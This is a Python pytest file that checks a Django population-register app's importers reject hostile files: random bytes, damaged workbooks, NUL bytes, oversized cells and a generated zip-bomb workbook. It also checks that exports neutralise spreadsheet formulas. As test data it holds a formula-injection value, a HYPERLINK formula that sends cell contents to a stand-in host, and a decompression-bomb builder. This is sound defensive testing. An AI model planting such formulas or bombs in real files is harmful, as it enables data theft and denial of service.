"""Hostile and broken files (issue 12, item 5): every importer refuses each with the row,
the column and the reason, writes nothing, and never lets a traceback or a server error
through; what is written out cannot run as a spreadsheet formula.

The importers share one reader (``renkou.core.tables.read_table``); each case is fed to
every one of them. A zip bomb is stood in for by a workbook that unpacks beyond a
lowered limit (the check is the same; building gigabytes would only cost time).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import override_settings
from django.utils import translation
from openpyxl import load_workbook

from renkou.core.models import AuditEntry
from renkou.core.tables import ImportRejected, Problems, RowError, TableWriter, read_table
from renkou.orgunits.excel import ORG_COLUMNS, import_orgunits
from renkou.orgunits.models import OrgUnit
from renkou.reconciliation.departments import COLUMNS, import_list
from renkou.reconciliation.models import DepartmentList, Source, Survey
from renkou.reconciliation.survey import SURVEY_REQUIRED, import_survey
from renkou.register.exporting import export_persons
from renkou.register.importing import REQUIRED_COLUMNS, import_persons
from renkou.register.models import LifeEvent, Person
from renkou.register.services import enrol_person
from renkou.testing.factories import make_id_number, write_xlsx

pytestmark = pytest.mark.django_db

PERSON_HEADER = ["name", "sex", "birth_date", "org_code", "hukou_type", "id_number",
                 "enrolled_date"]

#: importer -> (run it on a file, the columns it requires)
IMPORTERS: dict[str, tuple[Callable[[Path], object], list[str]]] = {
    "persons": (lambda path: import_persons(path), list(REQUIRED_COLUMNS)),
    "orgunits": (lambda path: import_orgunits(path), list(ORG_COLUMNS)),
    "survey": (lambda path: import_survey(path, name="核查", survey_date=dt.date(2024, 6, 30)),
               list(SURVEY_REQUIRED)),
    "police list": (lambda path: import_list(path, Source.POLICE),
                    list(COLUMNS[Source.POLICE][0])),
}


def _stored() -> tuple[int, ...]:
    return (Person.objects.count(), LifeEvent.objects.count(), OrgUnit.objects.count(),
            Survey.objects.count(), DepartmentList.objects.count(), AuditEntry.objects.count())


def _bytes(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _text(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_text(text, encoding=encoding)
    return path


def _bomb(path: Path, header: list[str]) -> Path:
    """A real workbook whose sheet unpacks to 8 MB of almost nothing (compressed ~10 KB)."""
    buffer = io.BytesIO()
    write_xlsx(buffer, header, [["a"] * len(header)])
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source, \
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", b"</sheetData>" + b" " * 8 * 2**20)
            out.writestr(item, data)
    return path


def _rows(header: list[str], *rows: str) -> str:
    return ",".join(header) + "\n" + "".join(r + "\n" for r in rows)


Maker = Callable[[Path, list[str]], Path]
#: name -> (how to make it from a directory and the importer's columns, the row its
#: refusal names, words its reason holds)
HOSTILE: dict[str, tuple[Maker, int, str]] = {
    "random bytes": (lambda d, h: _bytes(d / "x.csv", bytes(range(256)) * 64), 0, "NUL"),
    "random bytes without NUL": (lambda d, h: _bytes(d / "x.csv", bytes(range(128, 256)) * 64),
                                 0, "UTF-8"),
    "a .xlsx that is not a workbook": (lambda d, h: _text(d / "x.xlsx", _rows(h, "a,b")),
                                       0, ".xlsx"),
    "a damaged workbook": (lambda d, h: _bytes(d / "x.xlsx", b"PK\x03\x04" + bytes(300)), 0,
                           "Excel"),
    "a damaged old .xls": (lambda d, h: _bytes(d / "x.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
                                              + bytes(512)), 0, "Excel 97-2003"),
    "a header only": (lambda d, h: _text(d / "x.csv", _rows(h)), 2, "rows"),
    "an empty file": (lambda d, h: _text(d / "x.csv", ""), 1, "empty"),
    "a duplicated column": (lambda d, h: _text(d / "x.csv", _rows([*h, h[0]], "a")), 1,
                            "twice"),
    "a NUL byte in row 2,002": (lambda d, h: _bytes(d / "x.csv", _rows(
        h, *["a" * 40 + ",b"] * 2000, "a\x00,b").encode()), 2002, "NUL"),
    "a 50 MB cell": (lambda d, h: _text(d / "x.csv", _rows(h, "M" * (50 * 2**20))), 2,
                     "131,072"),
    "a 3,000-character cell": (lambda d, h: write_xlsx(d / "x.xlsx", h, [["张" * 3000]]), 2,
                               "3,000"),
    "a zip bomb": (lambda d, h: _bomb(d / "x.xlsx", h), 0, "MB"),
}


@pytest.mark.parametrize("importer", IMPORTERS)
@pytest.mark.parametrize("case", HOSTILE)
@override_settings(RENKOU_INPUT_LIMITS={"unpacked_bytes": 4 * 2**20})
def test_every_importer_refuses_a_hostile_file_with_its_row_and_reason(
        case, importer, tmp_path, settings):
    make, row, words = HOSTILE[case]
    run, header = IMPORTERS[importer]
    path = make(tmp_path, header)
    before = _stored()
    with pytest.raises(ImportRejected) as caught, translation.override("en"):
        run(path)
    problem = caught.value.errors[0]
    assert (problem.row, caught.value.total) == (row, 1)
    assert words in problem.reason, problem.reason
    assert _stored() == before


def test_the_command_line_says_why_and_exits_with_status_1(tmp_path, capsys):
    path = _bytes(tmp_path / "persons.xlsx", b"not a workbook at all")
    with pytest.raises(CommandError) as caught:
        call_command("import_data", "persons", str(path), "--quiet", "--lang", "zh-hans")
    assert caught.value.returncode == 1
    assert "不是 Excel 工作簿" in capsys.readouterr().out


def test_a_gbk_csv_from_excel_on_a_chinese_windows_is_read(tmp_path):
    path = _text(tmp_path / "x.csv", "姓名,性别\n张三,男\n欧阳修,女\n", encoding="gbk")
    header, rows = read_table(path)
    assert (header, list(rows)) == (["姓名", "性别"], [["张三", "男"], ["欧阳修", "女"]])


def test_text_is_read_in_nfkc_without_control_characters(tmp_path):
    path = _text(tmp_path / "x.csv", "id_number,name\n３４０６２１１９９０,\"张\u200b三\t\"\n")
    assert list(read_table(path)[1]) == [["3406211990", "张三"]]


def test_a_full_width_id_number_is_the_number_already_registered(small_register, tmp_path):
    """The full-width form of 张晓明's number cannot register a second person."""
    zxm = small_register.zxm
    wide = zxm.id_number.translate({ord(c): ord(c) + 0xFEE0 for c in "0123456789X"})
    path = write_xlsx(tmp_path / "x.xlsx", PERSON_HEADER, [
        ["张晓明", "M", zxm.birth_date.isoformat(), "110101001201", "rural", wide, "2024-01-01"]])
    with pytest.raises(ImportRejected) as caught:
        import_persons(path)
    assert [(e.row, e.field) for e in caught.value.errors] == [(2, "id_number")]
    with pytest.raises(Exception, match="id_number"):
        enrol_person(name="张晓明", sex="M", birth_date=zxm.birth_date, org=zxm.registered_org,
                     hukou_type="rural", id_number=wide)


def test_a_million_problems_keep_the_first_thousand_and_count_the_rest():
    problems = Problems()
    for row in range(2, 1_000_002):
        problems.append(RowError(row, "name", "the name is required"))
    rejected = ImportRejected(problems, 1_000_000)
    assert (len(rejected.errors), rejected.total) == (1000, 1_000_000)
    assert "1000000" in str(rejected) or "1,000,000" in str(rejected)


FORMULA = '=HYPERLINK("http://x.invalid/?q="&A1,"点此")'


def test_a_formula_in_a_name_comes_out_inert_in_xlsx_and_csv(small_register, tmp_path):
    enrol_person(name=FORMULA, sex="F", birth_date=dt.date(1990, 1, 1),
                 org=small_register.village, hukou_type="rural",
                 id_number=make_id_number(dt.date(1990, 1, 1), "F", seq=44))
    export_persons(tmp_path / "p.xlsx")
    export_persons(tmp_path / "p.csv")
    sheet = load_workbook(tmp_path / "p.xlsx").active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
    assert [c.data_type for c in cells] == ["s"]
    with open(tmp_path / "p.csv", encoding="utf-8-sig", newline="") as f:
        names = [r["name"] for r in csv.DictReader(f)]
    assert "'" + FORMULA in names and FORMULA not in names


def test_a_name_longer_than_the_register_holds_is_refused_with_a_reason(small_register):
    """Before, the service passed it on: SQLite kept it, PostgreSQL failed (a 500)."""
    with pytest.raises(ValidationError) as caught:
        enrol_person(name="张" * 51, sex="F", birth_date=dt.date(1990, 1, 1),
                     org=small_register.village, hukou_type="rural")
    assert list(caught.value.message_dict) == ["name"]


def test_numbers_and_ordinary_text_are_written_as_they_are(tmp_path):
    with TableWriter(tmp_path / "t.csv", ["a", "b", "c", "d"]) as out:
        out.writerow(["-1.5", "+SUM(A1)", "@home", "张三"])
    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as f:
        assert list(csv.reader(f))[1] == ["-1.5", "'+SUM(A1)", "'@home", "张三"]
